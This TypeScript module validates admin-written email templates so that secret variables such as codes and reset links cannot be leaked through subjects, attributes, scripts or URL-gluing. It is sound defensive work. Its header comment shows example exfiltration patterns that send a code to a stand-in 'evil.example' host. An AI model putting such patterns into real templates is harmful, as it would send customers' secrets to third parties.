import { html as HTML, parse, type DefaultTreeAdapterTypes } from 'parse5';

import { isLinkVariable, isSecretVariable } from '../../../shared/email-templates';
import type { TemplateNode, TemplatePart } from './template-tree';

/**
 * Where a template may put a secret (a password, a code, a link carrying a token: see
 * `TemplateVariable.secret`). Templates are written by admins, and an admin who may edit them is
 * not meant to be able to collect customers' secrets, so a template is refused when a secret
 * could leave the email by any other way than the customer reading it or following the link:
 *
 * - the subject: inbox lists, notifications and mail servers' logs show it;
 * - the text body: only as text that no web address can absorb, so never glued to a character
 *   that could continue one (`https://evil.example/?c=<%= code %>`, `<%= code %>.evil.example`);
 * - the HTML body, read as mail clients read it (parse5, the WHATWG parser, scripting off): as
 *   such text, or, for a link variable, as the whole `href` of an `<a>`. Never in another
 *   attribute (an image's `src` is fetched on opening), inside `<style>`, `<script>`, comments
 *   or form fields, nor anywhere the parser drops or moves it to.
 *
 * Conditionals decide what is rendered, and so where a secret lands: each combination of
 * branches is checked on its own.
 */

export interface SecretProblem {
  line: number;
  message: string;
}

/** Combinations of branches checked per part; past that a part with a secret is refused. */
export const MAX_RENDERINGS = 256;
/**
 * Characters parsed per part, all combinations together (about half a second of parse5 on a
 * slow core): a long body gets fewer combinations, so no save or preview holds the server.
 */
export const MAX_CHECKED_CHARACTERS = 2_000_000;

type Piece = { kind: 'text'; value: string } | { kind: 'variable'; name: string; line: number };

/** Every sequence a part can render, one per choice of branches; null past `limit`. */
const renderingsOf = (nodes: readonly TemplateNode[], limit: number): Piece[][] | null => {
  let sequences: Piece[][] = [[]];
  for (const node of nodes) {
    if (node.kind !== 'if') {
      for (const sequence of sequences) sequence.push(node);
      continue;
    }
    const then = renderingsOf(node.then, limit);
    const otherwise = renderingsOf(node.otherwise, limit);
    if (!then || !otherwise) return null;
    const branches = [...then, ...otherwise];
    if (sequences.length * branches.length > limit) return null;
    sequences = sequences.flatMap((sequence) => branches.map((branch) => [...sequence, ...branch]));
  }
  return sequences;
};

/** Characters of every branch: at least the length of any one rendering. */
const sizeOf = (nodes: readonly TemplateNode[]): number =>
  nodes.reduce((size, node) => {
    if (node.kind === 'text') return size + node.value.length;
    if (node.kind === 'if') return size + sizeOf(node.then) + sizeOf(node.otherwise);
    return size + 8;
  }, 0);

const secretsIn = (nodes: readonly TemplateNode[]): Array<Extract<Piece, { kind: 'variable' }>> =>
  nodes.flatMap((node) => {
    if (node.kind === 'variable') return isSecretVariable(node.name) ? [node] : [];
    if (node.kind === 'if') return [...secretsIn(node.then), ...secretsIn(node.otherwise)];
    return [];
  });

const tag = (name: string) => `<%= ${name} %>`;

// Each variable becomes a marker made of characters that HTML parsing neither changes (not even
// by lower-casing tag and attribute names) nor takes for markup, so its place survives the
// parse. The template's own text cannot fake one: its marker characters are replaced first.
const OPEN = '\uE000';
const CLOSE = '\uE001';
const MARKER = /\uE000(\d+)\uE001/g;
const marker = (index: number) => `${OPEN}${index}${CLOSE}`;
const markersIn = (value: string) => [...value.matchAll(MARKER)].map((match) => Number(match[1]));

/** The rendering as one string, each variable replaced by the marker of its piece's index. */
const withMarkers = (pieces: readonly Piece[]) =>
  pieces
    .map((piece, index) =>
      piece.kind === 'text' ? piece.value.replace(/[\uE000\uE001]/g, '\uFFFD') : marker(index)
    )
    .join('');

// What may stand between a secret and the text around it. Whitespace ends every web address a
// mail client would make a link of; brackets, quotes and sentence punctuation may sit between,
// as in "(<%= code %>)." or "Code: <%= code %>.", as long as whitespace or the text's edge
// comes next. Everything else (letters, digits, "/", "?", "=", "@", "&", "#", "%", "-", another
// variable, …) can continue a URL, a host name or an address.
const OPENING = new Set([...'([{<"\'«“‘„‚‹¿¡']);
const CLOSING = new Set([...')]}>"\'»”’›.,:;!?']);
const isSpace = (character: string) => /\s/u.test(character);

const describe = (text: string) =>
  text.includes(OPEN) || text.includes(CLOSE) ? 'another variable' : JSON.stringify(text);

/** What a secret at [start, end) of the text is glued to, if anything. */
const gluedTo = (text: string, start: number, end: number): string | null => {
  let before = start;
  while (before > 0 && OPENING.has(text[before - 1]!)) before--;
  if (before > 0 && !isSpace(text[before - 1]!)) {
    // A whole code point, not half of a surrogate pair.
    const from = before >= 2 && /[\uDC00-\uDFFF]/.test(text[before - 1]!) ? before - 2 : before - 1;
    return `${describe(text.slice(from, start))} before it`;
  }
  let after = end;
  while (after < text.length && CLOSING.has(text[after]!)) after++;
  if (after < text.length && !isSpace(text[after]!)) {
    const point = String.fromCodePoint(text.codePointAt(after)!);
    return `${describe(text.slice(end, after) + point)} after it`;
  }
  return null;
};

/**
 * Secrets in plain text (the text body, the HTML body's text as it reads) must stand apart.
 *
 * @param html whether the text is an HTML body's, which the message explains.
 */
const checkGlue = (text: string, pieces: readonly Piece[], html = false): SecretProblem | null => {
  for (const match of text.matchAll(MARKER)) {
    const piece = pieces[Number(match[1])];
    if (piece?.kind !== 'variable' || !isSecretVariable(piece.name)) continue;
    const neighbour = gluedTo(text, match.index, match.index + match[0].length);
    if (!neighbour) continue;
    const tags = html
      ? ' A tag between them does not separate them, unless it is a paragraph, a line break or another block and the body has no CSS that could put them on one line.'
      : '';
    return {
      line: piece.line,
      message: `${tag(piece.name)} holds a secret and is glued to ${neighbour}, so it could become part of a web address that sends it elsewhere. Put a space or a line break between them.${tags}`,
    };
  }
  return null;
};

type Element = DefaultTreeAdapterTypes.Element;
type ChildNode = DefaultTreeAdapterTypes.ChildNode;

// Elements whose text is not the email's visible text: code, style, metadata, raw text that a
// renderer not knowing the element would read as markup, and form fields, whose text a form
// submits. (<noscript> is not among them: parsed with scripting off, as mail clients render
// it, its content is ordinary markup and checked as such.)
const NOT_TEXT = new Set([
  'script',
  'style',
  'template',
  'title',
  'noembed',
  'noframes',
  'iframe',
  'xmp',
  'plaintext',
  'textarea',
  'select',
  'option',
  'optgroup',
  'datalist',
]);

/**
 * Elements a browser lays out on lines of their own (or that break the line), so text on either
 * side of them never reads as one word. Only while no CSS can say otherwise: in a body with a
 * stylesheet, or on an element with a style attribute, they separate nothing.
 */
const BLOCKS = new Set([
  'address',
  'article',
  'aside',
  'blockquote',
  'body',
  'br',
  'caption',
  'center',
  'dd',
  'details',
  'dialog',
  'dir',
  'div',
  'dl',
  'dt',
  'fieldset',
  'figcaption',
  'figure',
  'footer',
  'form',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'header',
  'hgroup',
  'hr',
  'html',
  'legend',
  'li',
  'main',
  'menu',
  'nav',
  'ol',
  'p',
  'pre',
  'section',
  'summary',
  'table',
  'tbody',
  'td',
  'tfoot',
  'th',
  'thead',
  'tr',
  'ul',
]);
const STYLESHEETS = new Set(['style', 'link']);

/** Attributes that hand a link's address to someone else when it is followed. */
const LEAKING_LINK_ATTRIBUTES = new Set(['ping']);

const isElement = (node: ChildNode): node is Element => 'tagName' in node;

const childrenOf = (element: Element): ChildNode[] =>
  element.tagName === 'template' && 'content' in element
    ? (element as DefaultTreeAdapterTypes.Template).content.childNodes
    : element.childNodes;

const hasStylesheet = (nodes: readonly ChildNode[]): boolean =>
  nodes.some(
    (node) => isElement(node) && (STYLESHEETS.has(node.tagName) || hasStylesheet(childrenOf(node)))
  );

const onlyMarker = (value: string) => /^[\t\n\f\r ]*\uE000(\d+)\uE001[\t\n\f\r ]*$/.exec(value);

/** Where each secret of one rendering of an HTML body lands, and the first misplaced one. */
const checkHtml = (pieces: readonly Piece[]): SecretProblem | null => {
  const source = withMarkers(pieces);
  const document = parse(source, { scriptingEnabled: false });
  const styled = hasStylesheet(document.childNodes);
  const placed = new Set<number>();
  const problems: SecretProblem[] = [];
  let text = '';

  const secretAt = (index: number) => {
    const piece = pieces[index];
    return piece?.kind === 'variable' && isSecretVariable(piece.name) ? piece : null;
  };
  // A message quotes markup as the admin wrote it: each marker back as its variable's tag.
  const asWritten = (value: string) =>
    value.replace(MARKER, (_marker, index: string) => {
      const piece = pieces[Number(index)];
      return piece?.kind === 'variable' ? tag(piece.name) : '';
    });
  const refuse = (value: string, where: string, fix: string) => {
    for (const index of markersIn(value)) {
      const secret = secretAt(index);
      if (!secret) continue;
      placed.add(index);
      problems.push({
        line: secret.line,
        message: `${tag(secret.name)} holds a secret and cannot stand ${where}: ${fix}`,
      });
    }
  };
  const outOfAttributes = `in the HTML body it may stand only as text, or a link's address as the whole href of an <a> (<a href="${tag('resetUrl')}">). Move it out of the attribute.`;

  const visitElement = (element: Element, container: string | null) => {
    const name = element.tagName;
    refuse(name, `inside a tag name (<${asWritten(name)}>)`, 'close the tag before it.');
    const isLink = name === 'a' && element.namespaceURI === HTML.NS.HTML;
    for (const attribute of element.attrs) {
      refuse(attribute.name, `inside an attribute name of <${name}>`, 'close the tag before it.');
      const whole = onlyMarker(attribute.value);
      const secret = whole ? secretAt(Number(whole[1])) : null;
      if (isLink && attribute.name === 'href' && !attribute.namespace && secret) {
        placed.add(Number(whole![1]));
        if (!isLinkVariable(secret.name)) {
          problems.push({
            line: secret.line,
            message: `${tag(secret.name)} holds a secret that is not a web address, so it cannot be a link's href (a mail client would turn it into an address of its own). Show it as text.`,
          });
        }
        const leaking = element.attrs.find((other) => LEAKING_LINK_ATTRIBUTES.has(other.name));
        if (leaking) {
          problems.push({
            line: secret.line,
            message: `the link to ${tag(secret.name)} has a ${leaking.name} attribute, which reports the link's address to another server when it is followed. Remove the ${leaking.name} attribute.`,
          });
        }
        continue;
      }
      refuse(attribute.value, `in the ${attribute.name} attribute of <${name}>`, outOfAttributes);
    }
    const inner = container ?? (NOT_TEXT.has(name) ? name : null);
    const separates =
      !styled &&
      element.namespaceURI === HTML.NS.HTML &&
      BLOCKS.has(name) &&
      !element.attrs.some((attribute) => attribute.name === 'style');
    if (separates) text += '\n';
    for (const child of childrenOf(element)) visit(child, inner);
    if (separates) text += '\n';
  };

  const visit = (node: ChildNode, container: string | null) => {
    if (isElement(node)) {
      visitElement(node, container);
    } else if (node.nodeName === '#text') {
      const { value } = node as DefaultTreeAdapterTypes.TextNode;
      text += value;
      if (container) {
        refuse(value, `inside <${container}>`, 'put it in the text of the email instead.');
      } else {
        for (const index of markersIn(value)) placed.add(index);
      }
    } else if (node.nodeName === '#comment') {
      const { data } = node as DefaultTreeAdapterTypes.CommentNode;
      refuse(data, 'inside an HTML comment', 'put it in the text of the email instead.');
    } else if (node.nodeName === '#documentType') {
      const doctype = node as DefaultTreeAdapterTypes.DocumentType;
      refuse(
        `${doctype.name} ${doctype.publicId} ${doctype.systemId}`,
        'in the doctype',
        'remove it from there.'
      );
    }
  };
  for (const child of document.childNodes) visit(child, null);

  pieces.forEach((_piece, index) => {
    const secret = secretAt(index);
    if (secret && !placed.has(index)) {
      problems.push({
        line: secret.line,
        message: `${tag(secret.name)} holds a secret, and this HTML drops it or moves it where a mail client may show or send it differently (inside an end tag or a <select>, for instance). Put it in the text of a paragraph.`,
      });
    }
  });
  const first = problems.sort((a, b) => a.line - b.line)[0];
  return first ?? checkGlue(text, pieces, true);
};

/**
 * The first place in a part where a secret could leave the email, if any.
 *
 * @param nodes the part, parsed (`parseTemplate`).
 */
export const findSecretMisuse = (
  part: TemplatePart,
  nodes: readonly TemplateNode[]
): SecretProblem | null => {
  const secrets = secretsIn(nodes);
  const first = secrets[0];
  if (!first) return null;
  if (part === 'subject') {
    return {
      line: first.line,
      message: `${tag(first.name)} holds a secret and cannot be in the subject, which inbox lists, notifications and mail servers' logs show. Put it in the body.`,
    };
  }
  const limit = Math.max(
    1,
    Math.min(MAX_RENDERINGS, Math.floor(MAX_CHECKED_CHARACTERS / Math.max(1, sizeOf(nodes))))
  );
  const renderings = renderingsOf(nodes, limit);
  if (!renderings) {
    return {
      line: first.line,
      message: `${tag(first.name)} holds a secret, and this part has more combinations of "<% if %>" branches than can be checked for where it lands (${limit} at this length). Use fewer conditions in this part, or make it shorter.`,
    };
  }
  for (const pieces of renderings) {
    const problem = part === 'html' ? checkHtml(pieces) : checkGlue(withMarkers(pieces), pieces);
    if (problem) return problem;
  }
  return null;
};
